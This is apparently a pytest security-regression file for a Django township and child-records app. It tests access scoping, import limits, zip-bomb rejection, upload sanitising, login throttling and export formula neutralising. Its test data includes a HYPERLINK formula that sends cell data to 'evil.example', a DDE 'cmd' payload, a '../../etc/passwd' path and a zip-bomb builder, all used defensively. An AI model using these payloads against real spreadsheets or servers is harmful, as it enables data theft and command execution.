"""Issue 11: the holes an outside probe found, each kept closed by a test here.

Township A is 歌山镇 (330783108), B is 三单乡 (330783201), both in the session's demo county.
"""

from __future__ import annotations

import pytest

from gridmap.models import Area, AuditEvent, Child, Household, Person, Responsibility, School, UserRole
from tests.adminforms import form_data
from tests.test_access import A, B, login

pytestmark = pytest.mark.django_db


def test_staff_village_cadre_cannot_change_the_county_row():
    village = Area.objects.filter(code__startswith=A, level="village").order_by("code").first()
    client = login(UserRole.VILLAGE_CADRE, [village.code], staff=True)
    county = Area.objects.get(code="330783")
    url = f"/admin/gridmap/area/{county.pk}/change/"
    page = client.get(url).content.decode()
    assert 'name="_save"' not in page  # shown read-only, for context
    response = client.post(url, {"code": "330783", "name": "改名", "level": "county"})
    assert response.status_code == 403
    assert Area.objects.get(pk=county.pk).name == county.name
    township = Area.objects.get(code=A)  # their own township above them is context too
    assert client.post(f"/admin/gridmap/area/{township.pk}/change/", {"name": "改名"}).status_code == 403
    assert client.post(f"/admin/gridmap/area/{county.pk}/delete/", {"post": "yes"}).status_code == 403
    assert Area.objects.filter(pk=county.pk, name=county.name).exists()
    assert AuditEvent.objects.filter(action="denied", username__startswith="village_cadre").exists()


def test_staff_village_cadre_edits_a_group_of_their_own_village():
    village = Area.objects.filter(code__startswith=A, level="village").order_by("code").first()
    group = Area.objects.filter(parent=village).order_by("code").first()
    client = login(UserRole.VILLAGE_CADRE, [village.code], staff=True)
    url = f"/admin/gridmap/area/{group.pk}/change/"
    response = client.post(url, form_data(client, url, name="第一组（改）"))
    assert response.status_code == 302, response.content.decode()[:2000]
    assert Area.objects.get(pk=group.pk).name == "第一组（改）"


def test_staff_township_official_cannot_hand_over_in_another_township():
    client = login(UserRole.TOWNSHIP_OFFICIAL, [A], staff=True)
    cadre_b = Responsibility.objects.filter(role="group_cadre", area__code__startswith=B, end_date=None).first()
    mine = Person.objects.filter(responsibilities__area__code__startswith=A).first()
    before = Responsibility.objects.count()
    data = form_data(client, "/admin/gridmap/responsibility/add/", role="group_cadre", person=mine.pk,
                     area=cadre_b.area_id, start_date="2026-11-30")
    response = client.post("/admin/gridmap/responsibility/add/", data)
    assert response.status_code == 200 and "errorlist" in response.content.decode()  # not a valid choice
    assert Responsibility.objects.count() == before
    assert Responsibility.objects.get(pk=cadre_b.pk).end_date is None  # B's cadre not ended
    # B's row itself is not even there to end
    assert client.post(f"/admin/gridmap/responsibility/{cadre_b.pk}/change/",
                       {"end_date": "2026-11-30"}).status_code in (302, 404)
    assert Responsibility.objects.get(pk=cadre_b.pk).end_date is None


def test_staff_township_official_hands_over_in_their_own_township():
    client = login(UserRole.TOWNSHIP_OFFICIAL, [A], staff=True)
    cadre = Responsibility.objects.filter(role="group_cadre", area__code__startswith=A, end_date=None).first()
    other = Person.objects.filter(responsibilities__area__code__startswith=A).exclude(pk=cadre.person_id).first()
    data = form_data(client, "/admin/gridmap/responsibility/add/", role="group_cadre", person=other.pk,
                     area=cadre.area_id, start_date="2026-11-30")
    response = client.post("/admin/gridmap/responsibility/add/", data)
    assert response.status_code == 302, response.content.decode()[:3000]
    assert Responsibility.objects.get(pk=cadre.pk).end_date is not None
    assert Responsibility.objects.filter(area=cadre.area, person=other, end_date=None).exists()


def test_staff_township_official_cannot_create_a_child_in_another_township():
    client = login(UserRole.TOWNSHIP_OFFICIAL, [A], staff=True)
    group_b = Area.objects.filter(code__startswith=B, level="group").first()
    household_b = Household.objects.filter(group__code__startswith=B).first()
    before = Child.objects.count()
    data = form_data(client, "/admin/gridmap/child/add/", name="越权儿童", sex="M", birth_date="2015-03-01",
                     group=group_b.pk, household=household_b.pk, status="enrolled")
    response = client.post("/admin/gridmap/child/add/", data)
    assert response.status_code == 200 and "errorlist" in response.content.decode()
    assert Child.objects.count() == before


def test_person_admin_is_scoped():
    client = login(UserRole.TOWNSHIP_OFFICIAL, [A], staff=True)
    only_b = Person.objects.filter(school__township__code=B).exclude(
        responsibilities__area__code__startswith=A).first()
    mine = Person.objects.filter(school__township__code=A).first()
    listing = client.get("/admin/gridmap/person/?q=").content.decode()
    count = client.get("/admin/gridmap/person/").context["cl"].result_count
    assert count < Person.objects.count()
    assert client.get(f"/admin/gridmap/person/{only_b.pk}/change/").status_code in (302, 404)
    assert client.get(f"/admin/gridmap/person/{mine.pk}/change/").status_code == 200
    assert only_b.phone not in listing or Person.objects.filter(phone=only_b.phone).count() > 1


def test_rows_seen_for_context_cannot_be_deleted():
    """A village cadre sees the teachers of the schools serving the village (to call them), but they
    are not the cadre's to delete — neither one by one nor with the list's bulk action."""
    village = Area.objects.filter(code__startswith=A, level="village").order_by("code").first()
    client = login(UserRole.VILLAGE_CADRE, [village.code], staff=True)
    school = School.objects.filter(catchment_assignments__area__parent=village).first()
    teacher = Person.objects.create(name="测老师", sex="F", phone="13900000000", school=school)
    assert client.get(f"/admin/gridmap/person/{teacher.pk}/change/").status_code == 200  # seen
    assert client.post(f"/admin/gridmap/person/{teacher.pk}/delete/", {"post": "yes"}).status_code == 403
    response = client.post("/admin/gridmap/person/", {"action": "delete_selected", "post": "yes",
                                                      "_selected_action": [teacher.pk]})
    assert response.status_code == 403
    assert Person.objects.filter(pk=teacher.pk).exists()


# --- the import page: who may import, where, and what stays on disk ------------------------------

import io  # noqa: E402
import stat  # noqa: E402
import zipfile  # noqa: E402
from datetime import date  # noqa: E402

import geopandas as gpd  # noqa: E402
from django.contrib.auth.models import Permission  # noqa: E402
from django.core.files.uploadedfile import SimpleUploadedFile  # noqa: E402
from openpyxl import Workbook  # noqa: E402

from gridmap import idnumbers  # noqa: E402
from importers import uploads  # noqa: E402
from importers.areas import AreaImportParams, import_areas  # noqa: E402

HEADER = ["身份证号", "姓名", "性别", "出生日期", "户籍村组", "学校", "年级", "班级", "就读状态"]


def children_workbook(rows):
    wb = Workbook()
    ws = wb.active
    ws.append(HEADER)
    for r in rows:
        ws.append(r)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def importer(areas=(A,), permission=True, role=UserRole.TOWNSHIP_OFFICIAL):
    """A staff login with every admin permission of gridmap — with or without the import one."""
    from django.contrib.auth import get_user_model

    client = login(role, list(areas), staff=True)
    user = get_user_model().objects.get(pk=client.session["_auth_user_id"])
    if not permission:
        user.user_permissions.remove(Permission.objects.get(codename="import_data"))
    return client


def post_file(client, name, content, kind="children", **extra):
    return client.post("/admin/import/", {"kind": kind, "level": "village", "coords": "wgs84",
                                          "file": SimpleUploadedFile(name, content), **extra})


def token_of(page):
    return page.split('name="token" value="')[1].split('"')[0]


def test_import_page_is_the_county_administrators():
    for client in (importer(permission=False), importer((), role=UserRole.COUNTY_PLANNER)):
        assert client.get("/admin/import/").status_code == 403
        before = Child.objects.count()
        response = post_file(client, "孩子.xlsx", children_workbook([]))
        assert response.status_code == 403 and Child.objects.count() == before
    assert login(UserRole.COUNTY_ADMIN).get("/admin/import/").status_code == 200
    assert AuditEvent.objects.filter(action="denied", summary__contains="数据导入").exists()


def test_rows_outside_the_importers_scope_are_refused_row_by_row(tmp_path):
    group_a = Area.objects.filter(code__startswith=A, level="group").order_by("code").first()
    group_b = Area.objects.filter(code__startswith=B, level="group").order_by("code").first()
    rows = [[idnumbers.make("330783", date(2016, 5, 1), 11), "甲", "男", "", group_a.code, "", "", "", "在校"],
            [idnumbers.make("330783", date(2016, 6, 1), 12), "乙", "女", "", group_b.code, "", "", "", "疑似辍学"]]
    client = importer()
    before = Child.objects.count()
    page = post_file(client, "两个乡镇.xlsx", children_workbook(rows)).content.decode()
    assert "第3行" in page or ">3<" in page  # the B row is named
    assert "不在您的管理范围内" in page and 'name="commit"' not in page
    token = token_of(page)
    forced = client.post("/admin/import/", {"kind": "children", "level": "village", "coords": "wgs84",
                                            "token": token, "commit": "1"}).content.decode()
    assert "已写入数据库" not in forced
    assert Child.objects.count() == before
    assert not Child.objects.filter(group=group_b, name="乙").exists()


def test_imports_are_audited_and_uploads_do_not_linger(settings):
    group = Area.objects.filter(code__startswith=A, level="group").order_by("code")[1]
    number = idnumbers.make("330783", date(2017, 2, 2), 31)
    content = children_workbook([[number, "丙", "男", "", group.code, "", "", "", "在校"]])
    client = importer()
    page = post_file(client, "歌山镇适龄儿童.xlsx", content).content.decode()
    assert "校验通过，尚未写入" in page, page[-3000:]
    token = token_of(page)
    folder = settings.GRIDMAP_UPLOAD_DIR / token
    assert stat.S_IMODE(settings.GRIDMAP_UPLOAD_DIR.stat().st_mode) == 0o700
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    files = sorted(p.name for p in folder.iterdir())
    assert "歌山镇适龄儿童.xlsx" not in files and all(stat.S_IMODE((folder / f).stat().st_mode) == 0o600
                                                       for f in files)
    check = AuditEvent.objects.filter(action="import_check").latest("at")
    assert check.after["file"] == "歌山镇适龄儿童.xlsx" and check.after["size"] == len(content)
    assert check.after["sha256"] == __import__("hashlib").sha256(content).hexdigest()
    assert check.after["counts"]["将新增"] == 1
    # another login cannot use the token
    other = importer()
    assert other.post("/admin/import/", {"kind": "children", "level": "village", "coords": "wgs84",
                                         "token": token, "commit": "1"}).status_code == 404
    done = client.post("/admin/import/", {"kind": "children", "level": "village", "coords": "wgs84",
                                          "token": token, "commit": "1"}).content.decode()
    assert "已写入数据库" in done
    assert not list(folder.glob("data*"))  # the workbook with the ID number is gone once written
    assert AuditEvent.objects.filter(action="import", summary__contains="歌山镇适龄儿童.xlsx").exists()
    assert str(settings.GRIDMAP_UPLOAD_DIR) not in done and "/data.xlsx" not in done


def test_cancel_and_expiry_delete_the_upload(settings):
    client = importer()
    page = post_file(client, "x.xlsx", children_workbook([["1", "丁", "", "", "x", "", "", "", ""]])).content.decode()
    token = token_of(page)
    folder = settings.GRIDMAP_UPLOAD_DIR / token
    assert folder.exists()
    assert client.get(f"/admin/import/{token}/errors.xlsx").status_code == 200
    assert AuditEvent.objects.filter(action="export", summary__contains="问题清单").exists()
    client.post("/admin/import/", {"kind": "children", "level": "village", "coords": "wgs84", "token": token,
                                   "cancel": "1"})
    assert not folder.exists()
    page = post_file(client, "y.xlsx", children_workbook([])).content.decode()
    token = token_of(page)
    settings.GRIDMAP_UPLOAD_TTL_MINUTES = 0
    __import__("time").sleep(0.01)
    client.get("/admin/import/")  # the next visit purges what expired
    assert not (settings.GRIDMAP_UPLOAD_DIR / token).exists()


def test_error_messages_name_the_users_file_not_the_server_path():
    client = login(UserRole.COUNTY_ADMIN)
    page = post_file(client, "乡镇边界.geojson", b"{}", kind="areas").content.decode()  # GDAL names the path
    assert "乡镇边界.geojson" in page and "无法读取" in page
    assert "/uploads/" not in page and "/tmp/" not in page and "data.geojson" not in page
    # a broken OSM file is a report, not a 500
    response = post_file(client, "道路.osm", b"<osm><node", kind="roads")
    assert response.status_code == 200 and "无法读取 OSM 文件" in response.content.decode()


def zip_bomb(member: str, size: int) -> bytes:
    out = io.BytesIO()
    with (zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z,
          z.open(member, "w", force_zip64=True) as f):
        block = b"\0" * 2**20
        for _ in range(size // 2**20):
            f.write(block)
    return out.getvalue()


def test_decompression_bombs_are_refused_before_unpacking(settings, tmp_path):
    settings.GRIDMAP_UNZIPPED_MAX_MB = 32
    client = login(UserRole.COUNTY_ADMIN)
    bomb = zip_bomb("townships.geojson", 64 * 2**20)
    assert len(bomb) < 2**20
    page = post_file(client, "bomb.zip", bomb, kind="areas").content.decode()
    assert "超过上限" in page
    settings.GRIDMAP_UNZIPPED_MAX_MB = 1024
    page = post_file(client, "bomb.zip", bomb, kind="areas").content.decode()
    assert "压缩比异常" in page
    # an .xlsx whose sheet unpacks to 64 MB of nothing
    xlsx = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(children_workbook([]))) as good, zipfile.ZipFile(xlsx, "w", zipfile.ZIP_DEFLATED) as z:
        for item in good.infolist():
            if item.filename == "xl/worksheets/sheet1.xml":
                with z.open(item.filename, "w") as f:
                    for _ in range(64):
                        f.write(b" " * 2**20)
            else:
                z.writestr(item, good.read(item))
    page = post_file(client, "bomb.xlsx", xlsx.getvalue()).content.decode()
    assert "压缩比异常" in page


def test_row_limit(settings):
    settings.GRIDMAP_IMPORT_MAX_ROWS = 3
    client = login(UserRole.COUNTY_ADMIN)
    page = post_file(client, "many.xlsx", children_workbook([["x"] * 9] * 5)).content.decode()
    assert "超过 3 行的上限" in page


def test_upload_size_limit(settings):
    settings.GRIDMAP_UPLOAD_MAX_MB = 1
    client = login(UserRole.COUNTY_ADMIN)
    response = post_file(client, "big.csv", b"a," * 2**20)
    assert response.status_code == 400 and "超过上限" in response.content.decode()


# --- data that must never be damaged by a bad file -----------------------------------------------

def test_destroyed_names_are_errors_and_good_names_stay(tmp_path):
    villages = list(Area.objects.filter(code__startswith=A, level="village").order_by("code")[:3])
    names = {v.code: v.name for v in villages}
    mojibake = "城关镇".encode("gbk").decode("utf-8", errors="replace")  # "�ǹ���"
    cyrillic = "小河村".encode("gbk").decode("utf-8", errors="replace")  # "С�Ӵ�"
    latin1 = "小河村".encode("gbk").decode("latin-1")  # "Ð¡ºÓ´å"
    frame = gpd.GeoDataFrame(
        [{"代码": v.code, "名称": n} for v, n in zip(villages, (mojibake, cyrillic, latin1), strict=True)],
        geometry=gpd.GeoSeries.from_wkt([v.geom.wkt for v in villages]), crs=4326)
    path = tmp_path / "villages.geojson"
    frame.to_file(path)
    report = import_areas(AreaImportParams(path, level="village", commit=True))
    assert not report.ok and not report.committed
    bad_rows = {p.row for p in report.errors if p.field == "名称"}
    assert bad_rows == {1, 2, 3}, report.text()
    assert {v.code: v.name for v in Area.objects.filter(code__in=names)} == names


def test_a_name_change_is_listed_before_and_after(tmp_path):
    village = Area.objects.filter(code__startswith=A, level="village").order_by("code").last()
    frame = gpd.GeoDataFrame([{"代码": village.code, "名称": village.name + "社区"}],
                             geometry=gpd.GeoSeries.from_wkt([village.geom.wkt]), crs=4326)
    path = tmp_path / "rename.geojson"
    frame.to_file(path)
    report = import_areas(AreaImportParams(path, level="village"))
    changes = [p for p in report.warnings if "→" in p.value]
    assert changes and changes[0].value == f"{village.name} → {village.name}社区"
    assert Area.objects.get(pk=village.pk).name == village.name  # checked only, nothing written


def test_upload_names_are_sanitised():
    assert uploads.display_name("../../etc/passwd") == "passwd"
    assert uploads.display_name("C:\\Users\\x\\孩子.xlsx") == "孩子.xlsx"
    assert uploads.display_name("a\x00b.xlsx") == "ab.xlsx"


# --- exports: text never becomes a formula ---------------------------------------------------------

def test_formula_injection_is_neutralised_in_every_export(tmp_path):
    from openpyxl import load_workbook

    from importers.report import ImportReport

    cadre = Responsibility.objects.filter(role="group_cadre", area__code__startswith=A, end_date=None).first()
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    Person.objects.filter(pk=cadre.person_id).update(name=evil, phone="+8613800000000")
    client = login(UserRole.TOWNSHIP_OFFICIAL, [A])
    xlsx = client.get(f"/grid/{A}/cells.xlsx")
    path = tmp_path / "cells.xlsx"
    path.write_bytes(xlsx.getvalue())  # exports are streamed
    sheet = load_workbook(path).active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith(("=", "+"))]
    assert {c.value for c in cells} >= {evil, "+8613800000000"}
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)  # text, shown as written
    csv_text = client.get(f"/grid/{A}/cells.csv").getvalue().decode("utf-8-sig")
    assert f"'{evil}".replace('"', '""') in csv_text and "'+8613800000000" in csv_text
    assert f",{evil}" not in csv_text and f',"{evil}' not in csv_text
    report = ImportReport("x.xlsx")
    report.error(2, "姓名", "=cmd|' /C calc'!A0", "测试", "测试")
    report.to_workbook(tmp_path / "problems.xlsx")
    value = load_workbook(tmp_path / "problems.xlsx").active["E2"]
    assert value.value == "=cmd|' /C calc'!A0" and value.data_type == "s"


def test_login_limit_cannot_be_dodged_by_spelling_the_name_differently():
    from django.contrib.auth import get_user_model
    from django.test import Client

    get_user_model().objects.create_user("clerk2", password="the-right-password-1")
    client = Client()
    for name in ("clerk2", " clerk2", "clerk2 ", "ｃｌｅｒｋ２", "\tclerk2"):
        client.post("/login/", {"username": name, "password": "wrong"})
    response = client.post("/login/", {"username": "clerk2", "password": "the-right-password-1"})
    assert "_auth_user_id" not in client.session, "the sixth try must be refused"
    assert AuditEvent.objects.filter(action="login_failed", username="clerk2").count() == 5
    assert response.status_code == 200


def test_nul_bytes_are_a_400_even_for_anonymous_logins():
    from django.test import Client

    client = Client()
    response = client.post("/login/", {"username": "ad\x00min", "password": "x"})
    assert response.status_code == 400 and "不允许的控制字符" in response.content.decode()


def test_audit_log_is_append_only_in_the_database():
    from django.contrib.auth import get_user_model
    from django.db import DatabaseError, connection, transaction

    user = get_user_model().objects.create_user("auditee", password="pw-long-enough-1")
    event = AuditEvent.objects.create(user=user, username="auditee", action="view", summary="原始记录")
    for sql in ("UPDATE gridmap_auditevent SET summary = '篡改' WHERE id = %s",
                "DELETE FROM gridmap_auditevent WHERE id = %s"):
        with pytest.raises(DatabaseError, match="append-only"), transaction.atomic(), connection.cursor() as c:
            c.execute(sql, [event.pk])
    with pytest.raises(DatabaseError), transaction.atomic():
        AuditEvent.objects.filter(pk=event.pk).delete()
    user.delete()  # a login may go: its events stay, with its name, the key set to NULL
    event.refresh_from_db()
    assert event.user_id is None and event.username == "auditee" and event.summary == "原始记录"
